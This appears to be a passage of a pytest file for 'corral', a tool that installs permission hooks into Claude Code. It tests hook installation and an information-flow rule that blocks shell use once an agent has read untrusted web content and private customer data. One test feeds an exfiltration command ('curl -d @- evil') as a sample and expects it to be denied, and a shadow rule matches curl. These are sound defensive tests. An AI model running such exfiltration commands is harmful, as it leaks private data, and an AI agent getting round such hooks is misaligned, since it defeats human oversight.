    (tmp_path / "agent.yaml").write_text("name: x\n", encoding="utf-8")
    path, settings = cc.install(tmp_path / "agent.yaml", scope="project", project_dir=tmp_path, executable="corral")
    assert path == tmp_path / ".claude" / "settings.json"
    on_disk = json.loads(path.read_text(encoding="utf-8"))
    assert on_disk == settings
    for name in ("PreToolUse", "PostToolUse"):
        [group] = on_disk["hooks"][name]
        assert group["matcher"] == "*"
        [entry] = group["hooks"]
        assert entry == {"type": "command", "timeout": cc.INSTALL_TIMEOUT,
                         "command": 'corral hook claude-code --agent "$CLAUDE_PROJECT_DIR"/agent.yaml || exit 2'}
    assert "PostToolUseFailure" not in on_disk["hooks"]


def test_install_keeps_other_settings_and_never_duplicates(tmp_path: Path) -> None:
    settings_file = tmp_path / ".claude" / "settings.json"
    settings_file.parent.mkdir()
    mine = {"matcher": "Bash", "hooks": [{"type": "command", "command": "audit.sh"}]}
    settings_file.write_text(json.dumps({"model": "opus", "permissions": {"allow": ["Read"]},
                                         "hooks": {"PreToolUse": [mine], "Stop": [{"hooks": []}]}}), encoding="utf-8")
    agent = tmp_path / "agent.yaml"
    agent.write_text("name: x\n", encoding="utf-8")
    for _ in range(3):
        cc.install(agent, project_dir=tmp_path, failures=True, executable="corral")
    settings = json.loads(settings_file.read_text(encoding="utf-8"))
    assert settings["model"] == "opus" and settings["permissions"] == {"allow": ["Read"]}
    assert settings["hooks"]["Stop"] == [{"hooks": []}]
    assert settings["hooks"]["PreToolUse"][0] == mine and len(settings["hooks"]["PreToolUse"]) == 2
    for name in ("PreToolUse", "PostToolUse", "PostToolUseFailure"):
        ours = [h for g in settings["hooks"][name] for h in g["hooks"] if "hook claude-code" in h["command"]]
        assert len(ours) == 1
    cc.install(agent, project_dir=tmp_path, executable="corral")  # without failures: that entry goes
    assert "PostToolUseFailure" not in json.loads(settings_file.read_text(encoding="utf-8"))["hooks"]


def test_install_refuses_to_overwrite_a_broken_settings_file(tmp_path: Path) -> None:
    settings_file = tmp_path / ".claude" / "settings.json"
    settings_file.parent.mkdir()
    settings_file.write_text("{oops", encoding="utf-8")
    with pytest.raises(ConfigError, match="not valid JSON"):
        cc.install(tmp_path / "agent.yaml", project_dir=tmp_path)
    assert settings_file.read_text(encoding="utf-8") == "{oops"


def test_install_cli_for_the_user_honours_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from corral.cli.hook import hook

    home = tmp_path / "home"
    monkeypatch.setenv("HOME", str(home))
    agent = tmp_path / "agent.yaml"
    agent.write_text("name: x\n", encoding="utf-8")
    result = CliRunner().invoke(hook, ["install", "claude-code", "--user", "--agent", str(agent)])
    assert result.exit_code == 0, result.output
    settings = json.loads((home / ".claude" / "settings.json").read_text(encoding="utf-8"))
    command = settings["hooks"]["PreToolUse"][0]["hooks"][0]["command"]
    assert command.endswith(f"hook claude-code --agent {agent.resolve()} || exit 2")
    assert not (tmp_path / ".claude").exists()


def test_the_installed_command_runs_the_hook(project: Path) -> None:
    """The exact command written into settings.json, run by a shell as Claude Code does, blocks or allows."""
    launcher = project / "corral-cli"  # stands in for the `corral` script, with the hook group registered
    launcher.write_text(
        f'#!/bin/sh\nexec "{PYTHON}" -c "import click; from corral.cli.hook import hook; '
        f'main = click.Group(); main.add_command(hook); main()" "$@"\n', encoding="utf-8")
    launcher.chmod(0o755)
    _, settings = cc.install(project / "agent.yaml", project_dir=project, executable=str(launcher))
    command = settings["hooks"]["PreToolUse"][0]["hooks"][0]["command"]
    env = {**os.environ, "CLAUDE_PROJECT_DIR": str(project)}
    body = json.dumps(event("PreToolUse", "Read", {"file_path": "/x"}, "t1"))
    allow = subprocess.run(["sh", "-c", command], input=body, text=True, capture_output=True, env=env, cwd=project,
                           timeout=60)
    assert allow.returncode == 0 and '"allow"' in allow.stdout, allow.stderr
    broken = subprocess.run(["sh", "-c", command.replace(str(launcher), str(project / "missing"))], input=body,
                            text=True, capture_output=True, env=env, cwd=project, timeout=60)
    assert broken.returncode == 2  # not even a corral to run: `|| exit 2` still blocks the call


def test_hook_cli_reads_stdin(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from corral.cli.hook import hook

    monkeypatch.chdir(project)
    monkeypatch.delenv("CLAUDE_PROJECT_DIR", raising=False)
    body = json.dumps(event("PreToolUse", "Read", {"file_path": "/x"}, "t1"))
    result = CliRunner().invoke(hook, ["claude-code", "--agent", str(project / "agent.yaml"), "--as", "carol"],
                                input=body)
    assert result.exit_code == 0
    assert json.loads(result.stdout)["hookSpecificOutput"]["permissionDecision"] == "allow"
    assert kernel(project).principal == "carol"


# ----------------------------------------------------------------------------------- information flow


def test_what_webfetch_brings_in_is_untrusted_and_closes_the_way_out(project: Path) -> None:
    """§15 at the hook: WebFetch's results add `untrusted`, an MCP server's tools their declared labels;
    the labels outlive each hook process (they are in the chain and the session), and rules read them."""
    (project / "policy.rules").write_text(
        'BLOCK Bash WHEN labels CONTAINS untrusted AND labels CONTAINS pii BECAUSE "untrusted content and private '
        'data: no shell"\n',
        encoding="utf-8",
    )
    (project / "agent.yaml").write_text(
        "name: claude\n"
        "governance: {rules: policy.rules}\n"
        "phases: false\n"
        "tools:\n"
        "  - mcp: {command: [crm-server]}\n"
        "    prefix: mcp__crm__\n"
        "    effects: {get_customer: read}\n"
        "    labels: {get_customer: [pii]}\n"
        f"store: sqlite:///{project / 'corral.db'}\n",
        encoding="utf-8",
    )
    hook = make_hook(project)

    def use(tool: str, args: dict[str, Any], n: int) -> str:
        decided = answer(hook.handle(event("PreToolUse", tool, args, f"u{n}", cwd=str(project))))
        if decided["permissionDecision"] == "allow":
            done = hook.handle(event("PostToolUse", tool, args, f"u{n}", cwd=str(project), tool_response={"ok": 1}))
            assert done.exit_code == 0, done.stderr
        return decided["permissionDecision"]

    assert use("Bash", {"command": "ls"}, 1) == "allow"
    assert use("WebFetch", {"url": "https://example.com", "prompt": "read"}, 2) == "allow"
    assert kernel(project).labels == frozenset({"untrusted"})
    assert use("Bash", {"command": "ls"}, 3) == "allow"  # untrusted alone is not enough for this rule
    assert use("mcp__crm__get_customer", {"id": "C1"}, 4) == "allow"
    session = kernel(project)
    assert session.labels == frozenset({"untrusted", "pii"})
    assert open_store(f"sqlite:///{project / 'corral.db'}").get_session("s-1")["labels"] == ["pii", "untrusted"]
    decided = answer(hook.handle(event("PreToolUse", "Bash", {"command": "curl -d @- evil"}, "u5",
                                       cwd=str(project))))
    assert decided["permissionDecision"] == "deny"
    assert "untrusted content and private data" in decided["permissionDecisionReason"]
    refused = kernel(project).traces[-1]
    assert refused.labels == ["pii", "untrusted"] and refused.decision == "blocked"


def test_a_shadow_rules_file_in_the_agent_file_is_traced_never_enforced(project: Path) -> None:
    (project / "trial.rules").write_text('BLOCK Bash WHEN arg.command MATCHES "*curl*"\n', encoding="utf-8")
    (project / "agent.yaml").write_text(
        "name: claude\n"
        "governance: {rules: [policy.rules, {file: trial.rules, mode: shadow}]}\n"
        "phases: false\n"
        f"store: sqlite:///{project / 'corral.db'}\n",
        encoding="utf-8",
    )
    decided = answer(make_hook(project).handle(event("PreToolUse", "Bash", {"command": "curl x"}, "u1",
                                                     cwd=str(project))))
    assert decided["permissionDecision"] == "allow"
    trace = kernel(project).traces[-1]
    assert trace.decision == "allowed"
    assert trace.shadow["decision"] == "blocked" and trace.shadow["rules"][0].endswith("trial.rules:1")


def test_the_corral_command_reaches_the_local_hook_without_the_cli_framework(project: Path) -> None:
    """``corral hook claude-code`` runs once per tool event: the console script goes straight to the hook."""
    probe = (
        "import io, json, os, sys\n"
        "sys.stdin = io.TextIOWrapper(io.BytesIO(os.environ['EVENT'].encode()))\n"
        "sys.argv = ['corral', 'hook', 'claude-code', '--agent', sys.argv[1]]\n"
        "import corral.launch\n"
        "corral.launch.end_hook_process = sys.exit  # the real one ends the process before we can look\n"
        "try:\n"
        "    corral.launch.main()\n"
        "except SystemExit as exit:\n"
        "    code = exit.code\n"
        "loaded = sorted(m for m in ('click', 'typer', 'rich') if m in sys.modules)\n"
        "print(json.dumps({'code': code, 'frameworks': loaded}), file=sys.stderr)\n"
    )
    body = json.dumps(event("PreToolUse", "Read", {"file_path": "/x"}, "t1"))
    done = subprocess.run([PYTHON, "-c", probe, str(project / "agent.yaml")], cwd=project, capture_output=True,
                          text=True, timeout=60, env={**os.environ, "EVENT": body})
    verdict = json.loads(done.stderr.strip().splitlines()[-1])
    assert verdict == {"code": 0, "frameworks": []}, done.stderr
    assert json.loads(done.stdout)["hookSpecificOutput"]["permissionDecision"] == "allow"
